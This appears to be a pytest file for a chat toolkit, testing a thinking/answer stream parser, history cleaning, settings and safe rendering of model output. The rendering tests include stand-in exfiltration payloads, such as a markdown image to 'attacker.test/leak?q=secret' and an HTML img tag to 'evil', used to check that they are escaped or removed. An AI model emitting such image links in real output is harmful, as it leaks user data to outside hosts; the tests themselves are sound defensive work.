"""The chat's logic without a model: the streaming parser (thinking / answer / tentative),
safe rendering of model output, history cleaning and settings (issues 14 and 15)."""

from __future__ import annotations

import re
import time

import pytest

from toolkit.chat.render import from_display, segments, to_display
from toolkit.chat.settings import (
    DEFAULT_MAX_NEW_TOKENS,
    DEFAULT_MAX_NEW_TOKENS_LIMIT,
    GENERIC_TITLE,
    SpaceSettings,
    display_name,
)
from toolkit.chat.stream import (
    NOTICE_PREFIX,
    STOPPED_NOTICE,
    STOPPED_TITLE,
    TENTATIVE_TITLE,
    THINKING_TITLE,
    UNFINISHED_TITLE,
    ThinkingStreamParser,
    clean_history,
    finalize_stopped,
    state_to_messages,
)


class FakeClock:
    def __init__(self) -> None:
        self.now = 100.0

    def __call__(self) -> float:
        return self.now


def feed_all(parser: ThinkingStreamParser, pieces: list[str], clock: FakeClock | None = None):
    states = []
    for piece in pieces:
        if clock is not None:
            clock.now += 1.0
        states.append(parser.feed(piece))
    return states


# --------------------------------------------------------------------------------------------
# streaming parser
# --------------------------------------------------------------------------------------------


def test_prefilled_output_without_opening_tag_streams_as_thinking_then_answer():
    clock = FakeClock()
    parser = ThinkingStreamParser(prefilled=True, clock=clock)
    states = feed_all(
        parser, ["Let me add ", "2 and 2.", "\n</th", "ink>\n\nThe answer ", "is 4."], clock
    )
    assert states[0].thinking and states[0].reasoning == "Let me add" and states[0].answer == ""
    # A half-received closing tag is held back, not shown as thinking or answer.
    assert states[2].reasoning == "Let me add 2 and 2." and states[2].thinking
    assert states[3].reasoning_complete and not states[3].thinking
    assert states[3].answer == "The answer"
    final = parser.finish()
    assert final.finished and final.reasoning_complete
    assert final.reasoning == "Let me add 2 and 2." and final.answer == "The answer is 4."
    # Thinking started at the first delta (t=101) and closed when </think> arrived (t=104).
    assert final.duration == pytest.approx(3.0)


def test_explicit_think_tags_and_partial_opening_tag():
    parser = ThinkingStreamParser()
    first = parser.feed("<thi")
    assert first.answer == "" and first.reasoning is None  # "<thi" is held back
    parser.feed("nk>Check: 3*3=9")
    state = parser.feed("</think>9")
    assert state.reasoning == "Check: 3*3=9" and state.answer == "9"
    assert parser.finish().reasoning_complete


def test_reasoning_in_a_separate_field():
    clock = FakeClock()
    parser = ThinkingStreamParser(clock=clock)
    clock.now = 1.0
    assert parser.feed(reasoning="First, ").thinking
    clock.now = 2.5
    state = parser.feed(reasoning="square it.")
    assert state.thinking and state.reasoning == "First, square it." and state.answer == ""
    clock.now = 4.0
    state = parser.feed(content="It is 16.")
    assert not state.thinking and state.reasoning_complete and state.answer == "It is 16."
    assert state.duration == pytest.approx(3.0)
    final = parser.finish()
    assert final.reasoning == "First, square it." and final.answer == "It is 16."


@pytest.mark.parametrize(
    ("prefilled", "pieces"),
    [(True, ["Hmm, ", "this is long"]), (False, ["<think>\n", "Hmm, ", "this is long"])],
)
def test_reasoning_that_never_closes_is_kept_and_marked_unfinished(prefilled, pieces):
    parser = ThinkingStreamParser(prefilled=prefilled)
    feed_all(parser, pieces)
    final = parser.finish()
    assert final.finished and not final.reasoning_complete and not final.thinking
    assert final.reasoning == "Hmm, this is long" and final.answer == ""
    messages = state_to_messages(final, max_new_tokens=64)
    assert messages[0]["metadata"] == {"title": UNFINISHED_TITLE}
    assert messages[0]["content"] == "Hmm, this is long"
    assert messages[1]["content"].startswith(NOTICE_PREFIX)
    assert "64 tokens" in messages[1]["content"]


def test_unfinished_reasoning_in_a_separate_field():
    parser = ThinkingStreamParser()
    parser.feed(reasoning="Still going")
    final = parser.finish()
    assert final.reasoning == "Still going" and not final.reasoning_complete
    assert state_to_messages(final)[0]["metadata"]["title"] == UNFINISHED_TITLE


def test_output_without_reasoning_is_all_answer():
    parser = ThinkingStreamParser()
    states = feed_all(parser, ["Paris is ", "the capital ", "of France."])
    assert all(state.reasoning is None and not state.thinking for state in states)
    final = parser.finish()
    assert final.answer == "Paris is the capital of France."
    assert state_to_messages(final) == [
        {"role": "assistant", "content": "Paris is the capital of France."}
    ]


def test_unprefilled_output_flips_to_thinking_when_a_closing_tag_arrives():
    # A server without a reasoning parser serving an R1 distill: the opening tag was in the
    # prompt, so the stream looks like an answer until </think> shows up.
    parser = ThinkingStreamParser()
    assert parser.feed("Let me see").answer == "Let me see"
    state = parser.feed("</think>\n\n42")
    assert state.reasoning == "Let me see" and state.answer == "42"


def test_thought_solution_markers():
    parser = ThinkingStreamParser()
    feed_all(parser, ["<|begin_of_thought|>a+b", "<|end_of_thought|>", "<|begin_of_solution|>7"])
    final = parser.finish()
    assert final.reasoning == "a+b" and final.answer == "7"


def test_messages_show_pending_then_done_with_duration():
    clock = FakeClock()
    parser = ThinkingStreamParser(prefilled=True, clock=clock)
    pending = state_to_messages(parser.feed(""))
    assert pending == [
        {
            "role": "assistant",
            "content": "…",
            "metadata": {"title": THINKING_TITLE, "status": "pending"},
        }
    ]
    clock.now += 2.25
    done = state_to_messages(parser.feed("ok</think>Yes."))
    assert done[0]["metadata"] == {"title": THINKING_TITLE, "status": "done", "duration": 2.2}
    assert done[1] == {"role": "assistant", "content": "Yes."}


def test_empty_closed_reasoning_shows_no_panel():
    parser = ThinkingStreamParser()
    parser.feed("<think>\n\n</think>\n\nHello!")
    assert state_to_messages(parser.finish()) == [{"role": "assistant", "content": "Hello!"}]


# --------------------------------------------------------------------------------------------
# history cleaning
# --------------------------------------------------------------------------------------------


def test_clean_history_drops_thinking_and_notices_and_keeps_alternation():
    history = [
        {"role": "user", "content": "What is 2+2?"},
        {"role": "assistant", "content": "2 plus 2", "metadata": {"title": THINKING_TITLE}},
        {"role": "assistant", "content": "It is 4."},
        {"role": "user", "content": "And 3+3?"},
        {"role": "assistant", "content": f"{NOTICE_PREFIX}The model server is not reachable."},
        # Gradio 6 hands the history over with typed content parts and metadata=None.
        {"role": "user", "content": [{"type": "text", "text": "And 5+5?"}], "metadata": None},
        {
            "role": "assistant",
            "content": [{"type": "text", "text": "<think>5 and 5</think>\n\nIt is 10."}],
            "metadata": None,
        },
    ]
    assert clean_history(history) == [
        {"role": "user", "content": "What is 2+2?"},
        {"role": "assistant", "content": "It is 4."},
        {"role": "user", "content": "And 5+5?"},
        {"role": "assistant", "content": "It is 10."},
    ]


def test_clean_history_keeps_the_most_recent_messages_from_a_user_turn():
    history = []
    for i in range(5):
        history += [{"role": "user", "content": f"q{i}"}, {"role": "assistant", "content": f"a{i}"}]
    cleaned = clean_history(history, max_messages=3)
    assert [m["content"] for m in cleaned] == ["q4", "a4"]
    assert [m["content"] for m in clean_history(history, max_messages=4)] == [
        "q3",
        "a3",
        "q4",
        "a4",
    ]


def test_clean_history_skips_files_and_unknown_roles():
    history = [
        {"role": "system", "content": "ignored"},
        {"role": "user", "content": [{"type": "file", "file": {"path": "/tmp/x.png"}}]},
        {"role": "user", "content": "hi"},
        {"role": "assistant", "content": "hello"},
    ]
    assert clean_history(history) == [
        {"role": "user", "content": "hi"},
        {"role": "assistant", "content": "hello"},
    ]


# --------------------------------------------------------------------------------------------
# issue 14.1 / 14.2: a template that may prefill <think>, and outputs cut short
# --------------------------------------------------------------------------------------------


def test_possible_prefill_shows_tentative_thinking_until_a_marker_arrives():
    """A server whose template is unknown (vLLM without a reasoning parser, `transformers
    serve`): before any marker the stream is pending thinking, never an answer."""
    parser = ThinkingStreamParser(prefilled=None)
    state = parser.feed("Let me see, 6 times 7")
    assert state.tentative and state.thinking and state.answer == ""
    shown = state_to_messages(state)
    assert shown == [
        {
            "role": "assistant",
            "content": "Let me see, 6 times 7",
            "metadata": {"title": THINKING_TITLE, "status": "pending"},
        }
    ]
    state = parser.feed(" is 42.\n</think>\n\nIt is **42**.")
    assert state.reasoning == "Let me see, 6 times 7 is 42." and state.answer == "It is **42**."
    final = parser.finish("stop")
    assert final.reasoning_complete and final.answer == "It is **42**."


def test_possible_prefill_without_any_marker_was_the_answer():
    parser = ThinkingStreamParser(prefilled=None)
    assert parser.feed("Paris.").tentative
    final = parser.finish("stop")
    assert final.reasoning is None and final.answer == "Paris."
    assert state_to_messages(final) == [{"role": "assistant", "content": "Paris."}]


@pytest.mark.parametrize("prefilled", [True, None])
def test_thinking_cut_by_the_token_limit_is_never_the_answer_nor_sent_back(prefilled):
    parser = ThinkingStreamParser(prefilled=prefilled)
    for piece in ["Hmm, 6 times 7 ", "is what? Let me "]:
        parser.feed(piece)
    final = parser.finish("length")
    assert final.answer == "" and final.reasoning == "Hmm, 6 times 7 is what? Let me"
    shown = state_to_messages(final, max_new_tokens=12)
    title = UNFINISHED_TITLE if prefilled else TENTATIVE_TITLE  # None: thinking or answer?
    assert shown[0]["metadata"] == {"title": title}
    assert shown[1]["content"].startswith(NOTICE_PREFIX) and "12 tokens" in shown[1]["content"]
    # The next request gets no assistant turn for it (and so no orphaned user turn either).
    history = [{"role": "user", "content": "6*7?"}, *shown]
    assert clean_history(history) == []


def test_answer_cut_by_the_token_limit_gets_a_notice():
    parser = ThinkingStreamParser()
    parser.feed("<think>6*7=42</think>The answer is")
    shown = state_to_messages(parser.finish("length"), max_new_tokens=64)
    assert shown[0]["metadata"]["status"] == "done"
    assert shown[1] == {"role": "assistant", "content": "The answer is"}
    assert shown[2]["content"].startswith(NOTICE_PREFIX)
    assert "cut off at the token limit (64 tokens)" in shown[2]["content"]
    # A finished answer gets no notice.
    parser = ThinkingStreamParser()
    parser.feed("<think>6*7=42</think>The answer is 42.")
    assert len(state_to_messages(parser.finish("stop"))) == 2


def test_a_model_that_ends_its_turn_inside_the_thinking_is_told_apart_from_the_limit():
    parser = ThinkingStreamParser(prefilled=True)
    parser.feed("I think")
    shown = state_to_messages(parser.finish("stop"), max_new_tokens=64)
    assert shown[0]["metadata"] == {"title": UNFINISHED_TITLE}
    assert "ended its turn while still thinking" in shown[1]["content"]
    assert "token limit" not in shown[1]["content"]


@pytest.mark.parametrize("end", ["dropped", "stopped"])
def test_interrupted_output_settles_without_a_spinner(end):
    """A lost connection or Stop: what arrived stays, apart, and nothing is left pending (the
    session adds the notice that says why)."""
    parser = ThinkingStreamParser(prefilled=None)
    parser.feed("Half of 48 is")
    shown = state_to_messages(parser.finish(end))
    title = STOPPED_TITLE if end == "stopped" else TENTATIVE_TITLE
    assert shown == [
        {"role": "assistant", "content": "Half of 48 is", "metadata": {"title": title}}
    ]


def test_finalize_stopped_clears_a_pending_panel_from_gradio_history():
    history = [
        {"role": "user", "content": [{"type": "text", "text": "q"}], "metadata": None},
        {
            "role": "assistant",
            "content": [{"type": "text", "text": "thinking…"}],
            "metadata": {"title": THINKING_TITLE, "status": "pending"},
        },
    ]
    settled = finalize_stopped(history)
    assert settled[1]["metadata"] == {"title": STOPPED_TITLE}
    assert settled[2] == {"role": "assistant", "content": f"{NOTICE_PREFIX}{STOPPED_NOTICE}"}
    assert finalize_stopped(settled) == settled  # idempotent
    assert history[1]["metadata"]["status"] == "pending"  # the input is not modified


# --------------------------------------------------------------------------------------------
# issue 15.6 / 14.4: model output rendered safely (HTML escaped, no remote images), \boxed
# --------------------------------------------------------------------------------------------


def test_model_html_is_escaped_outside_code_and_left_to_markdown_inside():
    text = 'Hi <b>bold</b> & <img src="http://evil/x.png"> `a<b>` done\n```\n<pre>x</pre>\n```\n'
    shown = to_display(text)
    assert "<b>" not in shown.split("`")[0] and "<img" not in shown
    assert shown.startswith("Hi &lt;b>bold&lt;/b> &amp; &lt;img src=")
    assert "`a<b>`" in shown and "\n<pre>x</pre>\n" in shown  # code shows `<` as is
    assert from_display(shown) == text


def test_markdown_images_are_removed_unless_their_host_is_allowed():
    text = (
        "See ![chart](http://attacker.test/leak?q=secret) and ![ok](https://img.example.org/a.png)"
    )
    shown = to_display(text)
    assert "attacker.test" not in shown and "img.example.org" not in shown
    assert "*(image not shown: chart)*" in shown and "*(image not shown: ok)*" in shown
    allowed = to_display(text, image_hosts=["img.example.org"])
    assert "![ok](https://img.example.org/a.png)" in allowed
    assert "attacker.test" not in allowed
    # http is never allowed, even from an allowed host
    assert "img.example.org" not in to_display(
        "![x](http://img.example.org/a.png)", ["img.example.org"]
    )


@pytest.mark.parametrize(
    "text",
    [
        "![a [nested] alt](http://attacker.test/x.png)",
        "![ref][1]\n\n[1]: http://attacker.test/x.png",
        "![x](<http://attacker.test/a b.png>)",
        "![x]\n(http://attacker.test/x.png)",
    ],
)
def test_every_other_image_syntax_is_defused(text):
    shown = to_display(text)
    assert "![" not in shown, shown


def test_bare_boxed_gets_math_delimiters():
    assert to_display("So \\boxed{\\frac{1}{2}}.") == "So $\\boxed{\\frac{1}{2}}$."
    for inside in ("$x = \\boxed{3}$", "$$\\boxed{3}$$", "\\(\\boxed{3}\\)", "\\[\\boxed{3}\\]"):
        assert to_display(inside) == inside
    assert to_display("`\\boxed{3}`") == "`\\boxed{3}`"
    assert to_display("\\boxed{unclosed") == "\\boxed{unclosed"
    assert to_display("cost \\$5, so \\boxed{5}") == "cost \\$5, so $\\boxed{5}$"


def test_clean_history_sends_back_what_the_model_wrote():
    parser = ThinkingStreamParser()
    parser.feed("<think>compare</think>Since a < b & b < c, a < c.")
    shown = state_to_messages(parser.finish("stop"))
    assert shown[1]["content"] == "Since a &lt; b &amp; b &lt; c, a &lt; c."
    history = [{"role": "user", "content": to_display("is a < c?")}, *shown]
    assert clean_history(history) == [
        {"role": "user", "content": "is a < c?"},
        {"role": "assistant", "content": "Since a < b & b < c, a < c."},
    ]


@pytest.mark.parametrize(
    "text",
    [
        "\\boxed{" * 200_000,
        "`" * 1000 + " x " + "``" * 100_000,
        "![" * 300_000,
        "<" * 500_000 + "&" * 500_000,
        ("`" * 7 + " a ") * 50_000,
    ],
)
def test_rendering_degenerate_output_is_fast(text):
    """A model looping until the token limit must not stall the chat (linear scans only)."""
    started = time.perf_counter()
    shown = to_display(text)
    from_display(shown)
    segments(shown)
    assert time.perf_counter() - started < 3.0  # quadratic scans took minutes


# --------------------------------------------------------------------------------------------
# settings (issue 14.4 defaults, 14.5 names)
# --------------------------------------------------------------------------------------------


def test_settings_from_env_and_overrides(monkeypatch):
    from toolkit.backends.openai import OpenAIModel

    monkeypatch.setenv("TOOLKIT_SPACE_BACKEND", "OpenAI")
    monkeypatch.setenv("TOOLKIT_SPACE_BASE_URL", "http://127.0.0.1:9/v1")
    monkeypatch.setenv("TOOLKIT_SPACE_API_KEY", "sk-secret-value")
    monkeypatch.setenv("TOOLKIT_SPACE_MAX_NEW_TOKENS", "256")
    monkeypatch.setenv("TOOLKIT_SPACE_PREFILLED_THINKING", "True")
    monkeypatch.setenv("TOOLKIT_SPACE_IMAGE_HOSTS", "img.example.org, Cdn.Example.org")
    monkeypatch.setenv("TOOLKIT_SPACE_CONCURRENCY", "3")
    settings = SpaceSettings.from_env(temperature=0.2, model=None)
    assert settings.backend == "openai" and settings.max_new_tokens == 256
    assert settings.temperature == 0.2 and settings.model is None
    assert settings.prefilled_thinking == "true" and settings.resolved_concurrency == 3
    assert settings.image_hosts == ("img.example.org", "cdn.example.org")
    assert "sk-secret-value" not in repr(settings)
    model = settings.build_model()
    assert isinstance(model, OpenAIModel)
    assert model.base_url == "http://127.0.0.1:9/v1"


def test_settings_defaults_per_backend(monkeypatch):
    from toolkit.backends.ollama import OllamaModel
    from toolkit.backends.transformers import TransformersModel

    assert isinstance(SpaceSettings().build_model(), TransformersModel)
    monkeypatch.setenv("OLLAMA_HOST", "http://127.0.0.1:1")
    ollama = SpaceSettings.from_env(backend="ollama").build_model()
    assert isinstance(ollama, OllamaModel) and ollama.host == "http://127.0.0.1:1"
    assert SpaceSettings(model="/runs/my-student/").display_title.startswith("my-student")
    assert SpaceSettings(backend="openai").resolved_concurrency > 1  # issue 15.6
    assert SpaceSettings().resolved_concurrency > 1


def test_defaults_follow_r1_usage_advice():
    """No system prompt (DeepSeek: "avoid adding a system prompt") and room to think."""
    settings = SpaceSettings()
    assert settings.system_prompt == ""
    assert settings.max_new_tokens == DEFAULT_MAX_NEW_TOKENS == 8192
    assert settings.max_new_tokens_limit == DEFAULT_MAX_NEW_TOKENS_LIMIT == 32768
    assert settings.prefilled_thinking == "auto"
    # An operator's default above the slider's top raises the top.
    assert SpaceSettings.from_env(max_new_tokens=40000).max_new_tokens_limit == 40000


@pytest.mark.parametrize(
    ("model", "name"),
    [
        ("deepseek-ai/DeepSeek-R1-Distill-Qwen-1.5B", "deepseek-ai/DeepSeek-R1-Distill-Qwen-1.5B"),
        ("/srv/space/runs/tiny-cpu/final", "tiny-cpu"),
        ("/data/runs/student/checkpoint-40", "student"),
        (
            "/root/.cache/huggingface/hub/models--HuggingFaceTB--SmolLM2-135M-Instruct/"
            "snapshots/" + "a" * 40,
            "HuggingFaceTB/SmolLM2-135M-Instruct",
        ),
        ("qwen3:0.6b", "qwen3:0.6b"),
        ("http://10.0.0.5:8000/v1", None),
        (None, None),
    ],
)
def test_display_names_never_show_server_paths(model, name):
    assert display_name(model) == name
    title = SpaceSettings(backend="openai", model=model).display_title
    assert title == (name or GENERIC_TITLE)
    assert not re.search(r"^/|/srv/|/root/|/data/|://", title)


@pytest.mark.parametrize(
    ("env", "message"),
    [
        ({"TOOLKIT_SPACE_BACKEND": "vllm"}, "backend 'vllm' is not one of"),
        ({"TOOLKIT_SPACE_TEMPERATURE": "hot"}, "TOOLKIT_SPACE_TEMPERATURE='hot' is not a number"),
        ({"TOOLKIT_SPACE_MAX_NEW_TOKENS": "0"}, "max_new_tokens=0 must be between"),
        ({"TOOLKIT_SPACE_PREFILLED_THINKING": "maybe"}, "prefilled_thinking='maybe' is not one"),
    ],
)
def test_bad_settings_are_clear_errors(monkeypatch, env, message):
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    with pytest.raises(ValueError, match=message.replace("(", r"\(")):
        SpaceSettings.from_env()
